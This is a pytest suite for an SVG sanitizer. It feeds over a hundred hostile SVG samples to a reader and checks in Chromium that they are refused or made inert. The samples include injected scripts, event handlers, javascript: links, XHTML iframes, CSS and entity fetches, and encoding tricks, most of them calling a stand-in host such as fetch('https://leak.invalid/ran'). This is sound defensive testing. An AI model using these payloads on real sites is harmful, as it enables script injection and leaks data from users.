"""Hostile SVGs: each is refused by name and line, or what is published of it is inert in Chromium."""

from __future__ import annotations

import base64
import re
from collections.abc import Iterator
from typing import TYPE_CHECKING

import pytest

from bulletin.svg import DamagedSvgError, SvgError, read_svg

if TYPE_CHECKING:
    from playwright.sync_api import Browser, BrowserContext, Route

LEAK = "https://leak.invalid"
RUN = f"fetch('{LEAK}/ran')"
JS = f"javascript:{RUN}"
PAGE = "https://pictures.invalid/a.svg"
NAMESPACES = (
    'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:h="http://www.w3.org/1999/xhtml" xmlns:ev="http://www.w3.org/2001/xml-events" '
    'xmlns:m="http://www.w3.org/1998/Math/MathML" xmlns:odd="urn:odd"'
)
BUTTON = '<rect width="100" height="100" fill="red"/>'


def wrap(inside: str, root: str = "", before: str = "") -> str:
    return f'{before}<svg {NAMESPACES} width="100" height="100" {root}>\n{inside}\n</svg>'


def pack(svg: str, kind: str = "image/svg+xml") -> str:
    return f"data:{kind};base64,{base64.b64encode(svg.encode()).decode()}"


def style(css: str) -> str:
    return wrap(f"<style>{css}</style>{BUTTON}")


def paint(css: str) -> str:
    return wrap(f'<rect width="100" height="100" style="{css}"/>')


SCRIPTED = wrap(f"<script>{RUN}</script>")
DTD = "<!DOCTYPE svg [<!ATTLIST {}>]>\n"

# Name → the file, and what the refusal names; None where what does harm is left away.
ATTACKS: dict[str, tuple[str | bytes, str | None]] = {
    # Programs
    "script": (SCRIPTED, "<script>"),
    "script by a prefix": (SCRIPTED.replace("script>", "s:script>").replace("<svg", '<svg xmlns:s="http://www.w3.org/2000/svg"'), "<script>"),
    "script in CDATA": (wrap(f"<script><![CDATA[{RUN}]]></script>"), "<script>"),
    "script from afar": (wrap(f'<script href="{LEAK}/a.js"/>'), "<script>"),
    "script by xlink": (wrap(f'<script xlink:href="{LEAK}/a.js"/>'), "<script>"),
    "script of data": (wrap(f'<script href="data:text/javascript,{RUN}"/>'), "<script>"),
    "script of a type": (wrap(f'<script type="module">{RUN}</script>'), "<script>"),
    "script of XHTML": (wrap(f"<h:script>{RUN}</h:script>"), "<script>"),
    "script in title": (wrap(f"<title><h:script>{RUN}</h:script></title>"), None),
    "script in metadata": (wrap(f"<metadata><h:script>{RUN}</h:script></metadata>"), None),
    "script in desc": (wrap(f"<desc><script>{RUN}</script></desc>"), None),
    "script in a foreign element": (wrap(f"<odd:box><script>{RUN}</script></odd:box>"), None),
    "script in style": (wrap(f"<style><script>{RUN}</script></style>"), None),
    "script in defs": (wrap(f"<defs><script>{RUN}</script></defs>"), "<script>"),
    "script in text": (wrap(f"<text><script>{RUN}</script></text>"), "<script>"),
    "script in a switch": (wrap(f"<switch><script>{RUN}</script></switch>"), "<script>"),
    "script in another branch": (wrap(f"<switch><g/><script>{RUN}</script></switch>"), None),
    "script in a font": (wrap(f"<font><script>{RUN}</script></font>"), None),
    "script in an unknown element": (wrap(f"<odd><script>{RUN}</script></odd>"), "<odd>"),
    "script inside a label": (wrap(f"<foreignObject><h:div><h:script>{RUN}</h:script></h:div></foreignObject>"), "<script>"),
    "handler": (wrap(f'<handler ev:event="load">{RUN}</handler>'), "<handler>"),
    "listener": (wrap('<ev:listener event="load" handler="#a"/>'), None),
    # Events
    "onload": (wrap(BUTTON, f'onload="{RUN}"'), "onload"),
    "onclick": (wrap(f'<rect width="100" height="100" onclick="{RUN}"/>'), "onclick"),
    "onerror": (wrap(f'<image href="data:image/png;base64,AAAA" onerror="{RUN}"/>'), "onerror"),
    "onbegin": (wrap(f'<rect onbegin="{RUN}"/>'), "onbegin"),
    "onfocusin": (wrap(f'<g tabindex="0" onfocusin="{RUN}" autofocus="">{BUTTON}</g>'), "onfocusin"),
    "an event in capitals": (wrap(f'<rect ONCLICK="{RUN}"/>'), "ONCLICK"),
    "an event in an odd namespace": (wrap(f'<rect odd:onclick="{RUN}" xlink:onload="{RUN}" width="99" height="99"/>'), None),
    "an event by a DTD": (wrap(BUTTON, before=DTD.format(f'svg onload CDATA "{RUN}"')), "onload"),
    "an event in a title": (wrap(f'<title onclick="{RUN}">a</title>'), "onclick"),
    "an event on what is left away": (wrap(f'<odd:a onclick="{RUN}">{BUTTON}</odd:a>'), None),
    # Animation
    "set to a program": (wrap(f'<a><set attributeName="href" to="{JS}"/>{BUTTON}</a>'), "<set>"),
    "animate to a program": (wrap(f'<a xlink:href="#x"><animate attributeName="xlink:href" values="{JS}"/>{BUTTON}</a>'), "<animate>"),
    "animate from a program": (wrap(f'<a id="a">{BUTTON}</a><animate href="#a" attributeName="href" from="{JS}" to="#"/>'), "<animate>"),
    "set an event": (wrap(f'<rect><set attributeName="onclick" to="{RUN}"/></rect>'), "<set>"),
    "animateTransform": (wrap(f'<animateTransform attributeName="x" onend="{RUN}"/>'), "<animateTransform>"),
    "animateMotion": (wrap('<animateMotion path="M0,0"/>'), "<animateMotion>"),
    "set by a prefix": (wrap(f'<s:set xmlns:s="http://www.w3.org/2000/svg" attributeName="href" to="{JS}"/>'), "<set>"),
    # Links
    "a link to a program": (wrap(f'<a href="{JS}">{BUTTON}</a>'), "javascript:"),
    "a link by xlink": (wrap(f'<a xlink:href="{JS}">{BUTTON}</a>'), "javascript:"),
    "a link behind another": (wrap(f'<a href="#" xlink:href="{JS}">{BUTTON}</a>'), "javascript:"),
    "a link with a tab": (wrap(f'<a href="java&#9;script:{RUN}">{BUTTON}</a>'), "javascript:"),
    "a link in capitals": (wrap(f'<a href=" JaVaScRiPt:{RUN}">{BUTTON}</a>'), "JaVaScRiPt:"),
    "a link to data": (wrap(f'<a href="data:text/html,x">{BUTTON}</a>'), "data:"),
    "a link to vbscript": (wrap(f'<a href="vbscript:x">{BUTTON}</a>'), "vbscript:"),
    "a link over all": (wrap(f'<a href="{LEAK}/" target="_top">{BUTTON}</a>'), None),
    "a link that pings": (wrap(f'<a href="#a" ping="{LEAK}/">{BUTTON}</a>'), None),
    "a link by xml:base": (wrap(f'<a href="x.html">{BUTTON}</a>', f'xml:base="{LEAK}/"'), None),
    "a link in text": (wrap(f'<text y="60" font-size="60"><a href="{LEAK}/">link</a></text>'), None),
    "a link by a DTD": (wrap(f"<a>{BUTTON}</a>", before=DTD.format(f'a href CDATA "{JS}"')), "javascript:"),
    "a link of XHTML": (wrap(f'<h:a href="{JS}">x</h:a>'), "<a>"),
    # Other languages
    "meta refresh": (wrap(f'<h:meta http-equiv="refresh" content="0;url={LEAK}/"/>'), "<meta>"),
    "an iframe": (wrap(f'<h:iframe src="{LEAK}/"/>'), "<iframe>"),
    "an iframe of its own": (wrap(f'<h:iframe srcdoc="&lt;script>{RUN}&lt;/script>"/>'), "<iframe>"),
    "an img": (wrap(f'<h:img src="{LEAK}/a.png"/>'), "<img>"),
    "a srcset": (wrap(f'<h:img srcset="{LEAK}/a.png 1x"/>'), "<img>"),
    "a poster": (wrap(f'<h:video poster="{LEAK}/a.png"/>'), "<video>"),
    "a sound": (wrap(f'<h:audio src="{LEAK}/a.mp3" autoplay=""/>'), "<audio>"),
    "a sheet": (wrap(f'<h:link rel="stylesheet" href="{LEAK}/a.css"/>'), "<link>"),
    "a style of XHTML": (wrap(f'<h:style>svg{{background:url({LEAK}/a.png)}}</h:style>'), "<style>"),
    "a base": (wrap(f'<h:base href="{LEAK}/"/><image href="a.png"/>'), "<base>"),
    "an embed": (wrap(f'<h:embed src="{LEAK}/a.svg"/>'), "<embed>"),
    "an object": (wrap(f'<h:object data="{LEAK}/a.svg"/>'), "<object>"),
    "a form": (wrap(f'<h:form action="{LEAK}/"><h:button>x</h:button></h:form>'), "<form>"),
    "MathML": (wrap(f'<m:math href="{JS}"><m:mi>x</m:mi></m:math>'), "<math>"),
    "a label with a picture": (wrap(f'<foreignObject width="9" height="9"><h:img src="{LEAK}/a"/></foreignObject>'), "<img>"),
    "a label with a style": (wrap(f'<foreignObject width="99" height="99"><h:p style="background:url({LEAK}/a)"/></foreignObject>'), None),
    "an iframe without a namespace": (wrap(f'<iframe src="{LEAK}/"/>'), "<iframe>"),
    "an animated video": (wrap(f'<video xlink:href="{LEAK}/a.mp4"/>'), "<video>"),
    # Pictures and parts from afar
    "an image": (wrap(f'<image href="{LEAK}/a.png" width="9" height="9"/>'), "<image>"),
    "an image by xlink": (wrap(f'<image xlink:href="{LEAK}/a.png" width="9" height="9"/>'), "<image>"),
    "an image beside": (wrap('<image href="b.png" width="9" height="9"/>'), "b.png"),
    "an image of itself": (wrap('<image href="#a" width="9" height="9"/>'), None),
    "an image of a script": (wrap(f'<image href="{pack(SCRIPTED)}" width="9" height="9"/>'), "<script>"),
    "an image that lies": (wrap(f'<image href="{pack(SCRIPTED, "image/png")}" width="9" height="9"/>'), "<script>"),
    "an image by xml:base": (wrap('<image href="" width="9" height="9"/>', f'xml:base="{LEAK}/"'), None),
    "feImage": (wrap(f'<filter id="f"><feImage href="{LEAK}/a.png"/></filter><rect filter="url(#f)"/>'), "<image>"),
    "use": (wrap(f'<use href="{LEAK}/a.svg#b"/>'), "<use>"),
    "use of data": (wrap(f'<use href="{pack(SCRIPTED)}#b"/>'), "<use>"),
    "use beside": (wrap('<use xlink:href="b.svg#b"/>'), "b.svg#b"),
    "a gradient": (wrap(f'<linearGradient id="a" href="{LEAK}/a.svg#b"/>'), "<linearGradient>"),
    "a text path": (wrap(f'<text><textPath href="{LEAK}/a.svg#b">x</textPath></text>'), "<textPath>"),
    "tref": (wrap(f'<text><tref xlink:href="{LEAK}/a.svg#b"/></text>'), "<tref>"),
    "a cursor": (wrap(f'<cursor id="c" xlink:href="{LEAK}/a.png"/>{BUTTON}'), None),
    "a colour profile": (wrap(f'<color-profile name="c" xlink:href="{LEAK}/a.icc"/>{BUTTON}'), None),
    "a font by element": (wrap(f'<font-face><font-face-src><font-face-uri xlink:href="{LEAK}/a.svg#f"/></font-face-src></font-face>'), None),
    "an address by a DTD": (wrap('<image width="9" height="9"/>', before=DTD.format(f'image href CDATA "{LEAK}/a.png"')), "<image>"),
    # CSS
    "import": (style(f"@import '{LEAK}/a.css';"), "@import"),
    "import by url": (style(f"@import url({LEAK}/a.css);"), "@import"),
    "import by escapes": (style(f"@\\69mport '{LEAK}/a.css';"), "@import"),
    "import by an entity": (style(f"@im&#112;ort '{LEAK}/a.css';"), "@import"),
    "import by CDATA": (style(f"@im<![CDATA[port '{LEAK}/a.css';]]>"), "@import"),
    "import around a comment": (style(f"@im<!-- x -->port '{LEAK}/a.css';"), "@import"),
    "import behind CDO": (style(f"<![CDATA[<!-- @import '{LEAK}/a.css'; -->]]>"), "@import"),
    "a font": (style(f"@font-face{{font-family:x;src:url({LEAK}/a.woff)}} rect{{font-family:x}}"), None),
    "a background": (style(f"svg{{background:url({LEAK}/a.png)}}"), f"{LEAK}/a"),
    "a background by escapes": (style(f"svg{{background:u\\72l({LEAK}/a.png)}}"), f"{LEAK}/a"),
    "a background with a comment": (style(f"svg{{background:/**/url(/**/{LEAK}/a.png)}}"), "要从别处取"),
    "a background in a style": (wrap(BUTTON, f'style="background:url({LEAK}/a.png)"'), f"{LEAK}/a"),
    "a background picture": (wrap(BUTTON, f'style="background-image:url({LEAK}/a.png)"'), None),
    "a background of itself": (style("svg{background:url(#a)}"), None),
    "image-set": (paint(f"mask:image-set('{LEAK}/a.png' 1x)"), "image-set()"),
    "-webkit-image-set": (paint(f"mask:-webkit-image-set(url({LEAK}/a.png) 1x)"), "-webkit-image-set()"),
    "cross-fade": (paint(f"mask:cross-fade(url({LEAK}/a.png), red)"), "cross-fade()"),
    "src()": (paint(f"mask:src('{LEAK}/a.png')"), "src()"),
    "image()": (paint(f"mask:image('{LEAK}/a.png')"), "image()"),
    "element()": (paint("mask:element(#a)"), "element()"),
    "expression": (paint(f"width:expression({RUN})"), "expression()"),
    "a fill": (wrap(f'<rect width="9" height="9" fill="url({LEAK}/a.svg#b)"/>'), f"{LEAK}/a"),
    "a fill beside": (wrap('<rect width="9" height="9" fill="url(b.svg#b)"/>'), "b.svg#b"),
    "a fill by escapes": (wrap(f'<rect width="9" height="9" fill="\\75\\72\\6c({LEAK}/a.svg#b)"/>'), f"{LEAK}/a"),
    "a filter": (paint(f"filter:url('{LEAK}/a.svg#b')"), f"{LEAK}/a"),
    "a mask": (wrap(f'<rect width="9" height="9" mask="url( &quot;{LEAK}/a.svg#b&quot; )"/>'), f"{LEAK}/a"),
    "a clip path": (paint(f"clip-path:url({LEAK}/a.svg#b)"), f"{LEAK}/a"),
    "a marker": (wrap(f'<path d="M0,0h9" marker-end="url({LEAK}/a.svg#b)"/>'), f"{LEAK}/a"),
    "a cursor by CSS": (paint(f"cursor:url({LEAK}/a.cur),auto"), None),
    "a list picture": (style(f"svg{{display:list-item;list-style:url({LEAK}/a.png)}}"), None),
    "a border picture": (style(f"svg{{border:9px solid;border-image:url({LEAK}/a.png)}}"), None),
    "content": (style(f"svg{{content:url({LEAK}/a.png)}}"), None),
    "content before": (style(f"svg::before{{content:url({LEAK}/a.png)}}"), None),
    "a shape": (style(f"svg{{float:left;shape-outside:url({LEAK}/a.png)}}"), None),
    "an offset path": (paint(f"offset-path:url({LEAK}/a.svg#b)"), "offset-path"),
    "-moz-binding": (style(f"svg{{-moz-binding:url({LEAK}/a.xml#b)}}"), None),
    "behavior": (style(f"svg{{behavior:url({LEAK}/a.htc)}}"), None),
    "a variable": (style(f":root{{--a:url({LEAK}/a.png)}} svg{{background:var(--a)}}"), f"{LEAK}/a"),
    "a fallback": (style(f"svg{{background:var(--b, url({LEAK}/a.png))}}"), f"{LEAK}/a"),
    "a dark colour": (style(f"svg{{background:light-dark(url({LEAK}/a.png), red)}}"), f"{LEAK}/a"),
    "a medium": (style(f"@media all{{svg{{background:url({LEAK}/a.png)}}}}"), f"{LEAK}/a"),
    "a layer": (style(f"@layer a{{svg{{background:url({LEAK}/a.png)}}}}"), "@layer"),
    "a condition": (style(f"@supports (fill:red){{svg{{background:url({LEAK}/a.png)}}}}"), "@supports"),
    "nested rules": (style(f"svg{{&amp; rect{{mask:url({LEAK}/a.png)}}}}"), None),
    "a style of another type": (wrap(f'<style type="text/less">@import "{LEAK}/a.css";</style>'), None),
    "a style in a style": (wrap(f'<style><style>svg{{background:url({LEAK}/a.png)}}</style></style>'), None),
    "keyframes": (style(f"@keyframes a{{to{{background:url({LEAK}/a.png)}}}} svg{{animation:a 1ms}}"), None),
    "a visited link": (style(f"a:visited rect{{background:url({LEAK}/a.png)}}"), f"{LEAK}/a"),
    # The file itself
    "a style sheet": (wrap(BUTTON, before=f'<?xml-stylesheet href="{LEAK}/a.css"?>'), "xml-stylesheet"),
    "a transformation": (wrap(BUTTON, before=f'<?xml-stylesheet type="text/xsl" href="{LEAK}/a.xsl"?>'), "xml-stylesheet"),
    "an entity": (wrap("<text>&a;</text>", before='<!DOCTYPE svg [<!ENTITY a "&lt;script/>">]>'), "<!ENTITY>"),
    "an entity from afar": (wrap("<text>&a;</text>", before=f'<!DOCTYPE svg [<!ENTITY a SYSTEM "{LEAK}/a">]>'), "<!ENTITY>"),
    "an entity of parameters": (wrap(BUTTON, before=f'<!DOCTYPE svg [<!ENTITY % a SYSTEM "{LEAK}/a"> %a;]>'), "<!ENTITY>"),
    "a DTD from afar": (wrap(BUTTON, before=f'<!DOCTYPE svg SYSTEM "{LEAK}/a.dtd">'), None),
    "UTF-16": (SCRIPTED.encode("utf-16"), "<script>"),
    "UTF-16 without a mark": (SCRIPTED.encode("utf-16-be"), "<script>"),
    "UTF-7": ('<?xml version="1.0" encoding="UTF-7"?>+ADw-svg/+AD4-', "UTF-7"),
    "GB 18030": (f'<?xml version="1.0" encoding="GB2312"?>\n{SCRIPTED}'.encode("gb18030"), "<script>"),
    "EBCDIC": ('<?xml version="1.0" encoding="cp037"?><svg/>', "cp037"),
    "an id that breaks out": (wrap(f"<rect id='&quot;/&gt;&lt;script&gt;{RUN.replace(chr(39), '&apos;')}&lt;/script&gt;' width='9'/>"), None),
    "a text that breaks out": (wrap(f"<text>&lt;/text&gt;&lt;script&gt;{RUN}&lt;/script&gt;</text>"), None),
    "a style that breaks out": (wrap(f"<style>rect{{font-family:'&lt;/style&gt;&lt;script&gt;{RUN}&lt;/script&gt;'}}</style>{BUTTON}"), None),
    "a string that breaks out": (style(f"rect{{font-family:'\\a;}} @import url({LEAK}/a.css);'}}"), None),
    "control characters": (style("rect{font-family:'\\1\\2';fill:\\0}"), None),
}  # fmt: skip
# Some that do harm as they are, of every kind: the browser of these tests must notice.
LIVE = [
    *("script", "script of XHTML", "script in metadata", "script in a foreign element", "onload"),
    *("set to a program", "a link to a program", "a link over all", "meta refresh", "an iframe", "an img"),
    *("a srcset", "a poster", "a sheet", "an image", "import by escapes", "a background by escapes"),
    *("a style sheet", "UTF-16", "a label with a style", "an event by a DTD", "a link by a DTD"),
]


@pytest.fixture(scope="module")
def context(browser: Browser) -> Iterator[BrowserContext]:
    context = browser.new_context()
    yield context
    context.close()


def open_picture(context: BrowserContext, data: bytes) -> list[str]:
    """Open an SVG by itself and click into it: every address that was asked for but its own."""
    asked: list[str] = []
    served = 0

    def answer(route: Route) -> None:
        nonlocal served
        url = route.request.url
        if url == PAGE and not served:
            served += 1
            route.fulfill(body=data, content_type="image/svg+xml")
        else:
            asked.append(url)
            route.abort()

    page = context.new_page()
    context.route("**/*", answer)
    try:
        page.goto(PAGE)
        for x, y in ((50, 50), (20, 30)):
            page.mouse.click(x, y)
        page.wait_for_timeout(150)
    finally:
        context.unroute("**/*")
        page.close()
    return asked


def to_bytes(svg: str | bytes) -> bytes:
    return svg if isinstance(svg, bytes) else svg.encode()


@pytest.mark.parametrize("name", ATTACKS)
def test_what_runs_or_reaches_out_is_refused_by_name_and_line(name: str) -> None:
    svg, named = ATTACKS[name]
    if named is None:
        assert read_svg(to_bytes(svg))
        return
    with pytest.raises(SvgError) as caught:
        read_svg(to_bytes(svg))
    assert named in str(caught.value)
    assert re.match("第[0-9]行", str(caught.value))
    assert re.search("[\u4e00-\u9fff]", caught.value.hint)


def test_what_is_published_is_inert(context: BrowserContext) -> None:
    published = [name for name, (_, named) in ATTACKS.items() if named is None]
    assert len(published) >= 30
    asked = {name: open_picture(context, read_svg(to_bytes(ATTACKS[name][0])).data) for name in published}
    assert {name: found for name, found in asked.items() if found} == {}


def test_the_browser_notices_what_does_harm(context: BrowserContext) -> None:
    quiet = [name for name in LIVE if not open_picture(context, to_bytes(ATTACKS[name][0]))]
    assert quiet == []


def test_there_are_many_kinds() -> None:
    assert len(ATTACKS) >= 120


@pytest.mark.parametrize(
    "svg", ["", "<svg", "<svg/><svg/>", "<svg>\n<g></svg>", b"<svg>\xff</svg>", "<a:svg/>"]
)
def test_what_is_no_xml_is_damaged(svg: str | bytes) -> None:
    with pytest.raises(DamagedSvgError):
        read_svg(to_bytes(svg))
